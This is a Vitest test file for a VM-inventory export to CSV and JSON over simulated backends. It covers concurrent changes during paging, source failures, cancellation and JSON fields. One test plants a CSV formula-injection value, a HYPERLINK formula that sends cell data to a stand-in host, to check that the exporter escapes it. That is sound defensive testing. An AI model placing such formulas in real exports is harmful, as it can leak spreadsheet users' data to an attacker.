import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { remove } from '../../../../sim/cloudtower/recycle.ts';
import { startProduct, type Product } from '../../../../testing/product.ts';
import { rememberCsrf } from '../../../lib/api.ts';
import { exportRows, type Missing } from '../../../ui/table/tools/exportRows.ts';
import { vmColumns } from './vmColumns.tsx';
import { vmSource } from './vmRows.ts';
import { completeVmSearch } from './vmSearch.ts';

// The page's own walk, through the BFF, over a simulated tower that does not hold still.

let product: Product;
beforeAll(async () => {
  product = await startProduct({ vms: 21_000, branch: { vms: 30 } });
  rememberCsrf((await product.sitDown('viewer')).csrf);
}, 60_000);
afterEach(() => {
  product.estate.faults.clear();
  product.branch?.faults.clear();
});
afterAll(() => product.stop());

const told = { words: { t: (key: string) => key } as never, whyNoConsole: () => undefined };
const columns = vmColumns({ ...told, nameOf: String }).filter(({ isTool }) => !isTool);
const asked = completeVmSearch({ sort: 'cpu_usage', dir: 'desc' });

async function exported(onProgress: (rows: number) => void = () => undefined, signal?: AbortSignal) {
  const answer = await exportRows({
    table: 'vms',
    format: 'csv',
    columns,
    sources: [vmSource('hq', asked), vmSource('branch', asked)],
    filter: '',
    about: (missing: readonly Missing[]) => [
      ['by', 'anna'],
      ...missing.map(({ scope, rows }): [string, string] => [scope, `${rows} rows`]),
    ],
    signal: signal ?? new AbortController().signal,
    onProgress,
  });
  const text = await answer.file.text();
  const [about = '', table = ''] = text.split('\r\n\r\n');
  const [heads = '', ...lines] = table.trimEnd().split('\r\n');
  const [scope = 0, id = 0] = ['chooseScope', 'factId'].map((head) => heads.split(',').indexOf(head));
  const ids = lines.map((line) => {
    const fields = line.match(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)?.map((field) => field.replace(/,$/, ''));
    return `${fields?.[scope] ?? ''}/${fields?.[id] ?? ''}`; // two towers may give the same id to two VMs
  });
  return { ...answer, about, lines, ids };
}
const matching = () => product.estate.world.vms.rows().filter((vm) => !vm.recycled && !vm.internal);

it('20,000 rows come while VMs come, go and are renamed: none twice, none missing that was there all along', async () => {
  const { world } = product.estate;
  const before = matching().map(({ id }) => id);
  const byId = before.toSorted();
  const gone = new Set<string>();
  const drop = (id: string | undefined) => {
    const vm = id === undefined ? undefined : world.vms.find(id);
    if (!vm || gone.has(vm.id)) return;
    gone.add(vm.id);
    remove(vm, world);
  };
  let pages = 0;
  const answer = await exported((rows) => {
    pages += 1;
    if (rows > before.length) return; // the other tower's
    // The row the walk stands on goes, one behind it and one before it; one comes, and one is renamed to the front.
    for (const at of [rows - 1, rows - 50, rows + 120]) drop(byId[at]);
    const [vm] = matching();
    const id = world.random.cuid();
    world.vms.add({ ...vm!, id, name: `new-${pages}`, snapshots: [] });
    const renamed = world.vms.find(byId[rows + 30] ?? '');
    if (renamed) renamed.name = `aaa-${pages}`;
  });
  const all = new Set(answer.ids);
  expect(answer.rows).toBeGreaterThan(20_000);
  expect(all.size).toBe(answer.ids.length);
  expect(answer.ids).toHaveLength(answer.rows);
  expect(gone.size).toBeGreaterThan(200);
  expect(before.filter((id) => !gone.has(id) && !all.has(`hq/${id}`))).toEqual([]);
  expect(answer.missing).toEqual([]);
  expect(pages).toBeGreaterThan(100);
}, 120_000);

describe('one of two towers that fails', () => {
  const deny = { deny: ['get-vms'] };

  it('from the start leaves the other’s rows, and the file says on top what is missing', async () => {
    product.estate.faults.set(deny);
    const { rows, ids, about, missing } = await exported();
    expect(missing).toMatchObject([{ scope: 'hq', rows: 0, failure: { kind: 'forbidden' } }]);
    expect(about).toContain('hq,0 rows');
    expect(rows).toBeGreaterThan(10);
    expect(ids).toHaveLength(rows);
  });

  it('on its way leaves what there is of it, and the file says how much', async () => {
    const { missing, about, ids } = await exported((rows) => {
      if (rows === 400) product.estate.faults.set(deny);
    });
    expect(missing).toMatchObject([{ scope: 'hq', rows: 400 }]);
    expect(about).toContain('hq,400 rows');
    expect(ids.length).toBeGreaterThan(410);
  });

  it('with the other is no file at all, but the reason', async () => {
    product.estate.faults.set(deny);
    product.branch?.faults.set(deny);
    await expect(exported()).rejects.toMatchObject({ kind: 'forbidden' });
  });
});

it('cancelled, it asks for no further page and makes no file', async () => {
  product.estate.requests.clear();
  const cancelled = new AbortController();
  await expect(exported(() => cancelled.abort(), cancelled.signal)).rejects.toMatchObject({
    name: 'AbortError',
  });
  expect(product.estate.requests.all().filter(({ path }) => path.endsWith('/get-vms'))).toHaveLength(1);
});

it('as JSON, says the same to a program, in fields that are the same in every language', async () => {
  product.estate.faults.set({ deny: ['get-vms'] });
  const { file, rows } = await exportRows({
    ...{ table: 'vms', format: 'json', columns, filter: '' },
    sources: [vmSource('hq', asked), vmSource('branch', asked)],
    about: () => [['Exported by', 'anna "the admin"']],
    ...{ signal: new AbortController().signal, onProgress: () => undefined },
  });
  const told = JSON.parse(await file.text()) as { about: unknown; rows: { name: string; memory: unknown }[] };
  expect(told.about).toEqual([{ term: 'Exported by', text: 'anna "the admin"' }]);
  expect(told.rows).toHaveLength(rows);
  const names = product.branch!.world.vms.rows().filter((vm) => !vm.recycled && !vm.internal);
  expect(told.rows.map(({ name }) => name).sort()).toEqual(names.map(({ name }) => name).sort());
  expect(typeof told.rows[0]!.memory).toBe('number');
});

it('a name that a spreadsheet would run is text in the file', async () => {
  product.estate.faults.set({ deny: ['get-vms'] });
  product.branch!.world.vms.rows()[0]!.name = `=HYPERLINK("http://x/"&A1,"open")`;
  const { lines } = await exported();
  expect(lines.filter((line) => line.startsWith(`"'=HYPERLINK(""http://x/""&A1,""open"")"`))).toHaveLength(1);
  expect(lines.filter((line) => /(^|,)"?[=+@]/.test(line))).toEqual([]);
});
